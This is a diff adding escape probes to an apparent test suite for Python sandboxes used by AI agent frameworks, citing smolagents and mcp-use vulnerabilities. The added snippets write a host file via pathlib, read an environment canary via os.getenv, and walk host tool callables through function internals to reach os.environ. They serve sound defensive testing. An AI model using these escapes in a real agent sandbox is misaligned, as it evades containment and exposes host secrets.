@@ -841,6 +841,16 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         """,
     ),
     _probe(
+        "pathlib-write-witness",
+        _C.OPEN_IO,
+        "pathlib.Path(witness).write_text() creates a host file",
+        "smolagents LocalPythonExecutor DANGEROUS_MODULES list (pathlib is a file-access module)",
+        """
+        import pathlib
+        pathlib.Path(__WITNESS_PATH__).write_text("escaped")
+        """,
+    ),
+    _probe(
         "linecache-getline",
         _C.OPEN_IO,
         "linecache.getline reads a host file through an innocent-looking module",
@@ -1158,6 +1168,66 @@ PROBES: Final[tuple[EscapeProbe, ...]] = (
         """
         import os
         os._exit(3)
+        """,
+    ),
+    _probe(
+        "os-getenv-direct",
+        _C.OS_PROCESS,
+        "import os; os.getenv: the direct route, open whenever an engine forwards os calls to the host",
+        "mcp-use code-mode exec() bypass (issue #1718): __import__('os')",
+        """
+        import os
+        os.getenv("TOOLCODE_CANARY")
+        """,
+    ),
+    _probe(
+        "host-callable-walk",
+        _C.GLOBALS_BUILTINS,
+        "walks the host callables a snippet is given (run_tool, search_tools, print) through "
+        "__func__/__self__/__globals__/__closure__ to os",
+        "smolagents CVE-2025-5120 (escapes through the tools and functions the host hands to the sandbox)",
+        """
+        def to_os(obj, depth):
+            kind = type(obj).__name__
+            if kind == "module":
+                if obj.__name__ == "os":
+                    return obj
+                if obj.__name__ == "builtins":
+                    return obj.__import__("os")
+                if obj.__name__ == "sys":
+                    return obj.modules["os"]
+                return None
+            if depth > 3:
+                return None
+            if kind == "dict":
+                for key in ("os", "sys", "__builtins__"):
+                    if key in obj:
+                        found = to_os(obj[key], depth + 1)
+                        if found is not None:
+                            return found
+                return None
+            if kind == "cell":
+                return to_os(obj.cell_contents, depth + 1)
+            for attr in ("__func__", "__self__", "__globals__", "__closure__", "__wrapped__"):
+                sub = getattr(obj, attr, None)
+                for item in (sub if type(sub).__name__ == "tuple" else (sub,)):
+                    if item is not None and item is not obj:
+                        found = to_os(item, depth + 1)
+                        if found is not None:
+                            return found
+            return None
+        targets = [print]
+        try:
+            targets.append(run_tool)
+            targets.append(search_tools)
+        except NameError:
+            pass
+        leaks = []
+        for target in targets:
+            reached = to_os(target, 0)
+            if reached is not None:
+                leaks.append(reached.environ["TOOLCODE_CANARY"])
+        leaks
         """,
     ),
     # --- network ----------------------------------------------------------------------------------------------
